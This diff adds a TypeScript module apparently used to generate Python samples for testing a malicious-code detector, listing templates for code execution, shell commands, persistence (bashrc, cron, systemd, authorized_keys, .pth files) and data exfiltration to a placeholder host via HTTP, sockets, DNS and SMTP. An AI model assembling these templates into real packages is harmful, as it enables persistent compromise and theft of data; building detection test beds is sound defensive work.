@@ -1,0 +1,64 @@
+import type { Sink } from './sample.js';
+import { HOST } from './sources.js';
+
+const builtin = (name: string): Sink['target'] => ({ module: 'builtins', name });
+
+/** What runs a text as Python. */
+export const execSinks: readonly Sink[] = [
+  { id: 'exec', target: builtin('exec'), take: (callee, data) => `${callee}(${data})` },
+  { id: 'eval', target: builtin('eval'), take: (callee, data) => `${callee}(${data})` },
+  { id: 'compile', target: builtin('compile'), take: (callee, data) => `exec(${callee}(${data}, 'bed', 'exec'))` },
+  { id: 'FunctionType', target: { module: 'types', name: 'FunctionType' }, take: (callee, data) => `${callee}(compile(${data}, 'bed', 'exec'), globals())()` },
+  { id: 'marshal', target: { module: 'marshal', name: 'loads' }, take: (callee, data) => `exec(${callee}(${data}.encode()))` },
+  { id: 'pickle', target: { module: 'pickle', name: 'loads' }, take: (callee, data) => `${callee}(${data}.encode())` },
+  { id: 'yaml', target: { module: 'yaml', name: 'unsafe_load' }, take: (callee, data) => `${callee}(${data})` },
+  { id: 'code', target: { module: 'code', name: 'InteractiveInterpreter' }, take: (callee, data) => `${callee}().runsource(${data})` },
+  { id: 'timeit', target: { module: 'timeit', name: 'timeit' }, take: (callee, data) => `${callee}(${data}, number=1)` },
+  { id: 'runpy', target: { module: 'runpy', name: 'run_path' }, take: (callee, data) => `open('bed.py', 'w').write(${data})\n${callee}('bed.py')` },
+];
+
+/** What runs a text as a command. */
+export const processSinks: readonly Sink[] = [
+  { id: 'os.system', target: { module: 'os', name: 'system' }, take: (callee, data) => `${callee}(${data})` },
+  { id: 'os.popen', target: { module: 'os', name: 'popen' }, take: (callee, data) => `${callee}(${data})` },
+  { id: 'os.execvp', target: { module: 'os', name: 'execvp' }, take: (callee, data) => `${callee}('sh', ['sh', '-c', ${data}])` },
+  { id: 'os.spawnvp', target: { module: 'os', name: 'spawnvp' }, take: (callee, data) => `${callee}(1, 'sh', ['sh', '-c', ${data}])` },
+  { id: 'os.posix_spawn', target: { module: 'os', name: 'posix_spawn' }, take: (callee, data) => `${callee}('/bin/sh', ['sh', '-c', ${data}], {})` },
+  { id: 'subprocess.run', target: { module: 'subprocess', name: 'run' }, take: (callee, data) => `${callee}(${data}, shell=True)` },
+  { id: 'subprocess.Popen', target: { module: 'subprocess', name: 'Popen' }, take: (callee, data) => `${callee}(['sh', '-c', ${data}])` },
+  { id: 'subprocess.check_output', target: { module: 'subprocess', name: 'check_output' }, take: (callee, data) => `${callee}(${data}, shell=True)` },
+  { id: 'subprocess.getoutput', target: { module: 'subprocess', name: 'getoutput' }, take: (callee, data) => `${callee}(${data})` },
+  { id: 'python -c', target: { module: 'subprocess', name: 'call' }, lines: ['import sys'], take: (callee, data) => `${callee}([sys.executable, '-c', ${data}])` },
+  { id: 'pty.spawn', target: { module: 'pty', name: 'spawn' }, take: (callee, data) => `${callee}(['sh', '-c', ${data}])` },
+  { id: 'asyncio', target: { module: 'asyncio', name: 'create_subprocess_shell' }, lines: ['import asyncio'], take: (callee, data) => `asyncio.run(${callee}(${data}))` },
+  { id: 'ctypes', target: { module: 'ctypes', name: 'CDLL' }, take: (callee, data) => `${callee}(None).system(${data}.encode())` },
+  { id: 'multiprocessing', target: { module: 'multiprocessing', name: 'Process' }, lines: ['import os'], take: (callee, data) => `${callee}(target=os.system, args=(${data},)).start()` },
+];
+
+/** What takes root outside the package. */
+export const rootSinks: readonly Sink[] = [
+  ...[
+    ['shell-profile', '~/.bashrc'],
+    ['systemd', '~/.config/systemd/user/bed.service'],
+    ['autostart', '~/.config/autostart/bed.desktop'],
+    ['launch-agent', '~/Library/LaunchAgents/bed.plist'],
+    ['cron', '/etc/cron.d/bed'],
+    ['authorized-keys', '~/.ssh/authorized_keys'],
+  ].map(([id = '', path]): Sink => ({ id, target: builtin('open'), lines: ['import os'], take: (callee, data) => `${callee}(os.path.expanduser('${path}'), 'a').write(${data})` })),
+  { id: 'site-packages', target: builtin('open'), lines: ['import os', 'import site'], take: (callee, data) => `${callee}(os.path.join(site.getsitepackages()[0], 'bed.pth'), 'w').write(${data})` },
+  { id: 'crontab', target: { module: 'subprocess', name: 'run' }, take: (callee, data) => `${callee}(['crontab', '-'], input=${data}, text=True)` },
+];
+
+/** What carries a text away. */
+export const sendSinks: readonly Sink[] = [
+  { id: 'urllib-data', target: { module: 'urllib.request', name: 'urlopen' }, take: (callee, data) => `${callee}('https://${HOST}/', data=${data}.encode())` },
+  { id: 'urllib-query', target: { module: 'urllib.request', name: 'urlopen' }, take: (callee, data) => `${callee}('https://${HOST}/?leaf=' + ${data})` },
+  { id: 'requests.post', target: { module: 'requests', name: 'post' }, take: (callee, data) => `${callee}('https://${HOST}/', data=${data})` },
+  { id: 'requests-json', target: { module: 'requests', name: 'post' }, take: (callee, data) => `${callee}('https://${HOST}/', json={'leaf': ${data}})` },
+  { id: 'httpx', target: { module: 'httpx', name: 'post' }, take: (callee, data) => `${callee}('https://${HOST}/', content=${data})` },
+  { id: 'http.client', target: { module: 'http.client', name: 'HTTPSConnection' }, take: (callee, data) => `${callee}('${HOST}').request('POST', '/', ${data})` },
+  { id: 'socket', target: { module: 'socket', name: 'create_connection' }, take: (callee, data) => `${callee}(('${HOST}', 443)).sendall(${data}.encode())` },
+  { id: 'dns', target: { module: 'socket', name: 'gethostbyname' }, take: (callee, data) => `${callee}(${data}.encode().hex()[:60] + '.${HOST}')` },
+  { id: 'smtp', target: { module: 'smtplib', name: 'SMTP' }, take: (callee, data) => `${callee}('${HOST}').sendmail('a@${HOST}', 'b@${HOST}', ${data})` },
+  { id: 'curl', target: { module: 'subprocess', name: 'run' }, take: (callee, data) => `${callee}(['curl', '-d', ${data}, 'https://${HOST}/'])` },
+];
